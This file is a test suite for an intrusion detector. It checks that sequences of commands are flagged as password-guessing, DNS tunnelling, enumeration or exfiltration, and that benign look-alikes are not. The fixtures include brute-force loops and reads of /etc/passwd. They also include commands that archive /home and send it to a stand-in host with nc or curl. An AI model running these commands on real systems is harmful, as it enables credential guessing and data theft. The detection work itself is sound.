/** What combinations of commands say, each beside what people do every day. */
import { expect, test } from 'bun:test'
import { Commands } from '../../src/detect/commands.ts'
import { Lineage } from '../../src/detect/lineage.ts'
import { type Calls, frameOf } from '../support/hand-frames.ts'

const STARTER = 7

/** Each command in a process and a second of its own, all started by one program. */
function run(commands: readonly string[], { uid = 0, every = 1, starter = 'php' } = {}) {
  const lineage = new Lineage()
  const found = new Commands(lineage)
  const above: Calls = { pid: STARTER, name: starter, startMs: 1_000, counts: { clone: 1 } }
  const all = { proofs: [] as string[], because: [] as string[], asked: [] as string[] }
  for (const [i, command] of commands.entries()) {
    const second = 1_000 + i * every
    const child: Calls = {
      ...{ pid: 100 + i, name: command.split(' ')[0]!, startMs: second * 1000 },
      ...{ ppid: STARTER, uid, command, counts: { execve: 1 } },
    }
    const frame = frameOf(second, [above, child])
    lineage.push(frame)
    const { proofs, discoveries } = found.push(frame)
    for (const { process, finding } of proofs) {
      expect(process.pid).toBe(STARTER)
      all.proofs.push(`${finding.says} ${finding.question}`)
      all.because.push(finding.because)
    }
    all.asked = discoveries.at(-1)?.asked.slice() ?? all.asked
  }
  return all
}

const times = (count: number, command: (i: number) => string) =>
  Array.from({ length: count }, (_, i) => command(i))
const label = (i: number) => `${i}`.padStart(48, 'mfxgk3dpnfxgc5dj')

test.each<[string, string[], string[]]>([
  [
    'passwords by sshpass',
    times(6, (i) => `sshpass -p pw${i} ssh root@h id`),
    ['proves password-guessing'],
  ],
  [
    'passwords for a page',
    times(6, (i) => `curl -s -u admin:pw${i} http://h/`),
    ['proves password-guessing'],
  ],
  ['one password for six files', times(6, (i) => `curl -u bob:pw http://h/${i}`), []],
  ['a new token for each request', times(6, (i) => `curl -H Authorization:t${i} http://h/`), []],
  ['a health check', times(20, () => 'dig @127.0.0.1 www.example.test +short'), []],
  ['data in names', times(6, (i) => `dig +short ${label(i)}.t.example TXT`), ['proves dns-tunnel']],
  [
    'data in names, by the C library',
    times(6, (i) => `getent hosts ${label(i)}.t.example`),
    ['proves dns-tunnel'],
  ],
  ['one long name', times(6, (i) => `dig +tries=${i} ${label(1)}.t.example TXT`), []],
  [
    'passwords by redis-cli',
    times(6, (i) => `redis-cli -h h -a pw${i} PING`),
    ['proves password-guessing'],
  ],
  ['one password by redis-cli', times(6, () => 'redis-cli -a pw PING'), []],
  [
    'all there is to know',
    ['id', 'cat /etc/passwd', 'uname -a', 'ps aux', 'ss -tlnp', 'find / -perm -4000'],
    ['supports enumeration'],
  ],
  ['a look around without more', ['id', 'uname -a', 'ps aux', 'ss -tlnp', 'ip addr', 'w'], []],
  ['names of a cloud', times(9, (i) => `dig k8s-web-ab${i}.elb.eu-west-1.amazonaws.com`), []],
  ['an archive by nc', ['tar cz /home', 'nc -N 203.0.113.9 8091'], ['supports exfiltration']],
  [
    'an archive by curl',
    ['tar -czf /tmp/x h', 'curl -F file=@/tmp/x http://203.0.113.9/u'],
    ['supports exfiltration'],
  ],
  ['a backup to a named host', ['tar -czf b.tgz etc', 'curl -T b.tgz https://backup.example/'], []],
  ['an archive, and a check of ports', ['tar czf b.tgz etc', 'nc -z -w 1 10.0.0.3 22'], []],
  ['an archive for this host', ['tar czf b.tgz etc', 'curl -T b.tgz http://127.0.0.1/'], []],
])('%s', (_, commands, expected) => {
  expect(run(commands).proofs).toEqual(expected)
})

test('who is not root calls su again and again; root may', () => {
  const calls = times(6, () => 'su victim -c id')
  expect(run(calls, { uid: 1000 }).proofs).toEqual(['proves password-guessing'])
  expect(run(calls, { uid: 0 }).proofs).toEqual([])
})

test.each<[string, string[], string[]]>([
  ['who came from outside', ['id', 'uname -a', 'cat /etc/passwd'], ['user', 'accounts', 'system']],
  [
    'by whole paths',
    ['/usr/bin/whoami', '/bin/ps aux', 'ls -la /home'],
    ['user', 'processes', 'files'],
  ],
  ['a status script', ['uname -r', 'ps aux', 'df -h', 'ls -t', 'cat /etc/hostname'], []],
  ['two questions', ['id', 'uname -a', 'id'], []],
])('%s asks %p', (_, commands, expected) => {
  expect(run(commands).asked).toEqual(expected)
})

test('who is not root gives sudo passwords; ansible asks for something else each time', () => {
  const calls = times(6, () => 'sudo -k -S id')
  expect(run(calls, { uid: 1000 }).proofs).toEqual(['proves password-guessing'])
  const tasks = times(6, (i) => `sudo -H -S -p [via ansible, key=${i}] -u root sh -c ${i}`)
  expect(run(tasks, { uid: 1000 }).proofs).toEqual([])
})

test('an archive was sent where the latest file went', () => {
  const to = (address: string) => `curl -T x http://${address}/u`
  const commands = [to('203.0.113.9'), to('203.0.113.8'), to('203.0.113.9'), 'tar cz /home']
  expect(run(commands).because).toEqual([
    'makes an archive and sends a file to 203.0.113.9, an address without a name',
  ])
})

test('a shell that connects by itself beside an archive sends it', () => {
  const lineage = new Lineage()
  const found = new Commands(lineage)
  const questions = (peer: string) => {
    const frame = frameOf(1_010, [
      {
        ...{ pid: STARTER, name: 'bash', startMs: 1_000, counts: { connect: 1 } },
        activity: { contacts: 1, peer },
      },
      {
        ...{ pid: 100, name: 'tar', startMs: 1_010_000, ppid: STARTER, command: 'tar cz /home' },
        counts: { execve: 1 },
      },
    ])
    lineage.push(frame)
    return found.push(frame).proofs.map(({ finding: { says, question } }) => `${says} ${question}`)
  }
  expect(questions('127.0.0.1:80')).toEqual([])
  expect(questions('203.0.113.9:80')).toEqual(['supports exfiltration'])
})

test.each<[string, string | undefined, string[]]>([
  ['an archiver that inherited the connection', 'tar cz /home', ['supports exfiltration']],
  ['a program that makes no archive', 'rsync -a /home h:', []],
  ['a program of which nothing is told', undefined, []],
])('beside an archive, the connection of %s', (_, command, expected) => {
  const lineage = new Lineage()
  const found = new Commands(lineage)
  const frame = frameOf(1_010, [
    { pid: STARTER, name: 'php', startMs: 1_000, counts: { clone: 1 } },
    {
      ...{ pid: 100, name: 'tar', startMs: 1_010_000, ppid: STARTER, command: 'tar cz /etc' },
      counts: { execve: 1 },
    },
    {
      ...{ pid: 101, name: 'x', startMs: 1_010_000, ppid: STARTER, counts: { connect: 1 } },
      ...(command === undefined ? {} : { command }),
      activity: { contacts: 1, peer: '203.0.113.9:80' },
    },
  ])
  lineage.push(frame)
  const { proofs } = found.push(frame)
  expect(proofs.map(({ finding: { says, question } }) => `${says} ${question}`)).toEqual(expected)
})

test.each<[string, string[], number, string[]]>([
  ['four passwords', times(4, (i) => `sshpass -p pw${i} ssh root@h id`), 1, []],
  ['four names', times(4, (i) => `dig +short ${label(i)}.t.example TXT`), 1, []],
  [
    'five kinds of questions',
    ['id', 'uname -a', 'ps aux', 'ss -tlnp', 'find / -perm -4000'],
    1,
    [],
  ],
  [
    'an archive that leaves soon',
    ['tar cz /etc', 'nc h 1', 'nc 203.0.113.9 1'],
    28,
    ['supports exfiltration'],
  ],
  ['an archive that leaves later', ['tar cz /etc', 'nc h 1', 'nc 203.0.113.9 1'], 32, []],
])('%s', (_, commands, every, proofs) => {
  expect(run(commands, { every }).proofs).toEqual(proofs)
})

test('a question counts for a minute, ever less', () => {
  const lineage = new Lineage()
  const found = new Commands(lineage)
  const questions = [0, 1, 40].map((s) => {
    const command = ['id', 'uname -a', 'ps aux'][s === 40 ? 2 : s]!
    const frame = frameOf(1_000 + s, [
      { pid: STARTER, name: 'php', startMs: 1_000, counts: { clone: 1 } },
      {
        ...{ pid: 100 + s, name: 'x', startMs: (1_000 + s) * 1000, ppid: STARTER, command },
        counts: { execve: 1 },
      },
    ])
    lineage.push(frame)
    return found.push(frame).discoveries[0]?.questions
  })
  expect(questions.slice(0, 2)).toEqual([undefined, undefined])
  expect(questions[2]).toBeCloseTo((1 * 0.985 + 1) * 0.985 ** 39 + 1, 5)
})

test('questions of two minutes do not belong together', () => {
  expect(run(['id', 'uname -a', 'ps aux'], { every: 61 }).asked).toEqual([])
})

test('what was tried before the clock was set back does not count', () => {
  const calls = times(6, (i) => `sshpass -p pw${i} ssh root@h id`)
  expect(run(calls, { every: -61 }).proofs).toEqual([])
})

test('a reason names programs, and nothing that they are given', () => {
  const tries = [
    times(6, (i) => `sshpass -p pw${i} ssh anna@payroll id`),
    times(6, () => 'su anna -c id'),
    ['tar czf /srv/payroll.tgz /srv', 'curl -T /srv/payroll.tgz http://203.0.113.9/u'],
    times(6, (i) => `dig payroll${label(i)}.t.example`),
  ]
  for (const commands of tries) {
    const { because } = run(commands, { uid: 1000 })
    expect(because).toHaveLength(1)
    expect(because[0]).not.toMatch(/anna|payroll/)
  }
})
